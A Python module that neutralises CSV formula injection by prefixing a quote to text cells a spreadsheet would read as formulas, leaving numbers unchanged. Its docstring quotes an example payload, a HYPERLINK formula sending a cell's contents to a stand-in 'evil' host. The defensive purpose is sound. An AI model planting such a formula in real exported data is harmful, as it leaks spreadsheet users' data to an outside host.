"""CSV that a spreadsheet opens without running anything from the articles.

A spreadsheet reads a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a
title runs when the file is opened. Following OWASP's advice ("CSV injection"), such a text cell
is written with a ``'`` in front, which the spreadsheet shows as text and hides. Numbers stay
numbers: a numeric column is never touched, nor a text cell that is a plain number (``-5``).
``--raw-csv`` writes every cell as it is, for programs.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

#: What a spreadsheet takes for the start of a formula.
FORMULA_START = re.compile(r"[=+\-@\t\r]")
#: A plain number, which is harmless however it begins.
NUMBER = re.compile(r"[+-]?[\d.,]*\d[\d.,]*(?:[eE][+-]?\d+)?")


def defused(text: str) -> str:
    """``text`` as a spreadsheet must show it: a ``'`` in front when it would start a formula."""
    if FORMULA_START.match(text) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def defuse_rows(rows: list[tuple[object, ...]]) -> tuple[list[tuple[object, ...]], int]:
    """Plain rows with every text cell that would start a formula :func:`defused`, and how
    many were."""
    changed = 0
    out: list[tuple[object, ...]] = []
    for row in rows:
        if any(isinstance(v, str) and FORMULA_START.match(v) for v in row):
            safe = tuple(defused(v) if isinstance(v, str) else v for v in row)
            changed += sum(a is not b for a, b in zip(row, safe, strict=True))
            row = safe
        out.append(row)
    return out, changed


def defuse_formulas(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """The frame with every text cell (and column name) that would start a formula
    :func:`defused`, and how many were."""
    import pandas as pd

    changed = 0

    def cell(value: object) -> object:
        nonlocal changed
        if isinstance(value, str):
            safe = defused(value)
            if safe is not value:
                changed += 1
            return safe
        return value

    out = frame.rename(columns=cell)
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if column.dtype == object or isinstance(column.dtype, pd.StringDtype | pd.CategoricalDtype):
            text = column.astype(object)
            starts = text.map(lambda v: isinstance(v, str) and bool(FORMULA_START.match(v)))
            if starts.any():
                text = text.copy()
                text[starts] = text[starts].map(cell)
                out.isetitem(position, text.to_numpy(dtype=object))
    return out, changed
